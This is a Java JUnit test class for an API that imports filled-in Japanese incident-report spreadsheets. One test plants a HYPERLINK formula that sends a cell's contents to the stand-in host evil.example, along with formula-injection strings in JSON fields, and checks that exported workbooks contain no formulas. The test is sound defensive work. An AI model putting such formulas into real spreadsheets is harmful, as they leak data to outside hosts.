package dev.noroshi.intake.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.noroshi.testing.NoroshiTest;
import dev.noroshi.testing.Program;
import dev.noroshi.testing.Programs;
import dev.noroshi.testing.Sheets;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/// A program hands in the official form as people fill it in.
@NoroshiTest
class ImportApiTest {

    private static final String IMPORT = "/api/v1/reports/import";

    @Autowired
    Programs programs;

    Program operator;

    @BeforeEach
    void program() {
        operator = programs.operator();
    }

    @Test
    void aFilledFormBecomesADraft() {
        var answer = operator.upload(IMPORT, "情報連絡様式.xlsx", Sheets.example(), Map.of());

        assertThat(answer.status()).as(answer.toString()).isEqualTo(201);
        assertThat(answer.json().path("state").asString()).isEqualTo("DRAFT");
        assertThat(answer.json().path("problems")).isEmpty();
        assertThat(answer.json().path("unread")).isEmpty();
        var report = operator.get(answer.header("Location")).json().path("report");
        assertThat(report.path("operator").asString()).isEqualTo("○○株式会社");
        assertThat(report.path("cause").get(0).asString()).isEqualTo("UNKNOWN");
        assertThat(report.path("timeline").size()).isEqualTo(3);
    }

    @Test
    void whatCannotBeReadIsToldWithItsPlaceAndTheRestIsKept() {
        var file = Sheets.exampleWith("E19", "■", "B49", "宇宙", "C51", "令和７年２月３０日 ０時 ０分");
        var answer = operator.upload(IMPORT, "情報連絡様式.xlsx", file, Map.of(), "Accept-Language", "en");

        assertThat(answer.status()).isEqualTo(201);
        var problems = answer.json().path("problems");
        assertThat(problems).extracting(p -> p.path("field").asString() + " " + p.path("code").asString())
                .contains("event-type choose-only-one", "sector no-such-sector", "known-datetime no-such-day");
        assertThat(problems).allSatisfy(p -> assertThat(p.path("place").asString()).isNotBlank());
        assertThat(problems.toString()).contains("There is no sector “宇宙”");
        assertThat(answer.json().path("report").path("known-datetime").path("written").asString()).contains("２月３０日");
        assertThat(answer.json().path("report").path("event-summary").asString()).contains("改竄");
    }

    @Test
    void aFormulaIsTextAndStaysText() {
        var file = Sheets.exampleWithFormula("C53", "HYPERLINK(\"http://evil.example/\"&B50,\"詳細\")");
        var made = operator.upload(IMPORT, "情報連絡様式.xlsx", file, Map.of());
        assertThat(made.status()).as(made.toString()).isEqualTo(201);
        var typed = operator.post("/api/v1/reports", "{\"event-summary\": \"=1+1\", \"lessons\": \"@SUM(A1)\"}");
        for (var answer : new Program.Answer[]{made, typed}) {
            var workbook = operator.get(answer.header("Location") + "/form.xlsx");
            assertThat(workbook.status()).isEqualTo(200);
            assertThat(Sheets.formulas(workbook.bytes())).isZero();
        }
        assertThat(Sheets.words(operator.get(typed.header("Location") + "/form.xlsx").bytes())).contains("=1+1");
    }

    @Test
    void aFormThatBearsTheDrillMarkIsADrill() {
        var report = """
                {"drill": true, "tlp": "GREEN", "attachment": "NO", "sector": "finance", "event-summary": "端末が感染した。"}""";
        var drill = operator.post("/api/v1/reports", report).header("Location");
        var paper = operator.get(drill + "/form.xlsx").bytes();
        var again = operator.upload(IMPORT, "訓練.xlsx", paper, Map.of("drill", "false"));
        assertThat(again.json().path("drill").asBoolean()).isTrue();
    }

    @Test
    void theTermsAreCarriedBesideTheFile() {
        var made = operator.upload(IMPORT + "?submit=true", "情報連絡様式.xlsx", Sheets.example(),
                Map.of("drill", "true", "language", "en", "grounds", "SERIOUS_IMPACT", "route", "MINISTRY"));
        assertThat(made.status()).as(made.toString()).isEqualTo(201);
        assertThat(made.json().path("drill").asBoolean()).isTrue();
        assertThat(made.json().path("language").asString()).isEqualTo("en");
        assertThat(made.json().path("grounds").asString()).isEqualTo("SERIOUS_IMPACT");
        assertThat(made.json().path("route").asString()).isEqualTo("MINISTRY");
        assertThat(made.json().path("state").asString()).isEqualTo("OPEN");
    }

    @Test
    void whatComesOutGoesInAgain() {
        var first = operator.upload(IMPORT, "情報連絡様式.xlsx", Sheets.example(), Map.of()).header("Location");
        var paper = operator.get(first + "/form.xlsx");
        assertThat(paper.header("Content-Disposition")).contains("report-1.xlsx");
        var second = operator.upload(IMPORT, "情報連絡様式.xlsx", paper.bytes(), Map.of());
        assertThat(second.json().path("report")).isEqualTo(operator.get(first + "/form.json").json());
    }

    @Test
    void aFileSentAgainWithTheSameKeyMakesNoSecondReport() {
        var first = operator.upload(IMPORT, "a.xlsx", Sheets.example(), Map.of(), "Idempotency-Key", "import-1");
        var second = operator.upload(IMPORT, "a.xlsx", Sheets.example(), Map.of(), "Idempotency-Key", "import-1");
        assertThat(second.text()).isEqualTo(first.text());
        var other = operator.upload(IMPORT, "a.xlsx", Sheets.exampleWith("B50", "別の会社"), Map.of(), "Idempotency-Key",
                "import-1");
        assertThat(other.status()).isEqualTo(409);
    }
}
